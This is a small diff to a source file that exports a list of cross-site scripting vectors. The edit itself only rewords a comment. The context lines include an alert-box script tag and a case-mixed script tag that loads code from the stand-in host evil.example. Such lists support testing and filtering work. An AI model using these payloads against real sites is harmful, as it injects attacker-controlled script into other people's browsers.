@@ -1,4 +1,4 @@
-/** Ways by which a text becomes a script: parsers' quirks, schemes, handlers, other languages. */
+/** Ways in which a text becomes a script: parsers' quirks, schemes, handlers, other languages. */
 export const xssVectors = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
